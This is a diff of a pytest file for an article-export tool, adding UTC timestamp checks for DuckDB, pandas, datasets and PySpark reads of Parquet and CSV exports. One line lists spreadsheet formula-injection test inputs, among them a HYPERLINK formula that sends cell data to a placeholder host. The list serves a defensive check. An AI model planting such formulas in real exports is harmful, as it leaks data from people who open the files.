@@ -9,6 +9,7 @@ import os
 import re
 import subprocess
 import zipfile
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -26,6 +27,13 @@ TITLES = {
     "datasets": "articles['title'][:]",
     "pyspark": "[row.title for row in articles.collect()]",
 }
+# Code that prints moments as text in UTC.
+TIMED = """
+from datetime import UTC
+def dumped(value):
+    texts = lambda one: one.astimezone(UTC).isoformat() if hasattr(one, "astimezone") else one.isoformat()
+    return json.dumps(value, default=texts)
+"""
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", " =1+1", '=HYPERLINK("http://x.example/?"&A1)']
 
 
@@ -79,24 +87,68 @@ def test_the_documented_query_counts_every_row_in_duckdb(made, rows):
     assert sorted(found) == [[outlet, outlets.count(outlet)] for outlet in sorted(set(outlets))]
 
 
-def test_duckdb_reads_the_same_rows_from_parquet(exported, rows):
-    code = "import duckdb\nfound = duckdb.sql(\"FROM 'articles.parquet'\")\n"
-    code += "print(json.dumps([dict(zip(found.columns, row)) for row in found.fetchall()]))"
-    assert python(exported, code) == rows
+@pytest.fixture(scope="module")
+def timed(rows) -> list[dict]:
+    """Rows as code with TIMED prints them from Parquet: moments in UTC, and the texts of an article's dates."""
+    return [
+        row
+        | {"fetched_at": in_utc(row["fetched_at"])}
+        | {name: row[name] and dated(row[name]) for name in ("published", "modified")}
+        for row in rows
+    ]
 
 
-def test_pandas_reads_the_same_texts_from_parquet_and_csv(exported, rows):
-    for form in ("parquet", "csv"):
-        code = f"import pandas\nfound = pandas.read_{form}('articles.{form}')\n"
-        names = ("id", "title", "text", "fetched_at", "version", "http_status")
-        code += f"print(found[{list(names)}].to_json(orient='records', force_ascii=False))"
-        assert python(exported, code) == [{name: row[name] for name in names} for row in rows]
+def dated(stated: dict) -> dict:
+    return stated | {"at": in_utc(stated["at"]), "at_text": stated["at"]}
 
 
-def test_datasets_reads_parquet(exported, rows):
-    code = "from datasets import load_dataset\n"
+def in_utc(text: str) -> str:
+    return datetime.fromisoformat(text).astimezone(UTC).isoformat()
+
+
+def test_duckdb_reads_the_same_rows_from_parquet(exported, timed):
+    code = f"{TIMED}import duckdb\nfound = duckdb.sql(\"FROM 'articles.parquet'\")\n"
+    code += "print(dumped([dict(zip(found.columns, row)) for row in found.fetchall()]))"
+    assert python(exported, code) == timed
+
+
+def test_pandas_reads_the_same_rows_from_parquet(exported, timed):
+    code = f"{TIMED}import pandas\nfound = pandas.read_parquet('articles.parquet')\n"
+    names = ("id", "title", "text", "published", "version", "http_status")
+    code += "assert str(found.fetched_at.dtype) == 'datetime64[us, UTC]'\n"
+    code += f"print(dumped(found[{list(names)}].to_dict(orient='records')))"
+    assert python(exported, code) == [{name: row[name] for name in names} for row in timed]
+
+
+def test_pandas_reads_the_same_texts_from_csv(exported, rows):
+    code = "import pandas\nfound = pandas.read_csv('articles.csv')\n"
+    names = ("id", "title", "text", "fetched_at", "version", "http_status")
+    code += f"print(found[{list(names)}].to_json(orient='records', force_ascii=False))"
+    assert python(exported, code) == [{name: row[name] for name in names} for row in rows]
+
+
+def test_datasets_reads_parquet(exported, timed):
+    code = f"{TIMED}from datasets import load_dataset\n"
     code += "found = load_dataset('parquet', data_files='articles.parquet', split='train')\n"
-    assert python(exported, f"{code}print(json.dumps(list(found)))") == rows
+    assert python(exported, f"{code}print(dumped(list(found)))") == timed
+
+
+def test_spark_reads_timestamps_from_parquet(exported, timed):
+    code = "from pyspark.sql import SparkSession\n"
+    code += "spark = SparkSession.builder.config('spark.sql.session.timeZone', 'UTC').getOrCreate()\n"
+    code += "found = spark.read.parquet('articles.parquet').selectExpr('id', 'unix_micros(fetched_at)')\n"
+    code += "print(json.dumps([list(row) for row in found.collect()]))"
+    micros = {row["id"]: datetime.fromisoformat(row["fetched_at"]) for row in timed}
+    wanted = [[name, round(moment.timestamp() * 1_000_000)] for name, moment in micros.items()]
+    assert sorted(python(exported, code)) == sorted(wanted)
+
+
+def test_the_documented_query_counts_the_days_of_parquet(exported, rows):
+    (code,) = re.findall(r"```sql\n(SELECT CAST.*?)```", (ROOT / "docs/reading.md").read_text("utf-8"), re.S)
+    code = f"import duckdb\nfound = duckdb.sql({code.replace('demo.parquet', 'articles.parquet')!r}).fetchall()\n"
+    days = [row["published"]["at"][:10] for row in rows if row["published"]]
+    found = python(exported, f"{code}print(json.dumps([[str(day), count] for day, count in found if day]))")
+    assert sorted(found) == [[day, days.count(day)] for day in sorted(set(days))]
 
 
 def test_a_spreadsheet_finds_no_formula_in_an_export(rows, tmp_path):
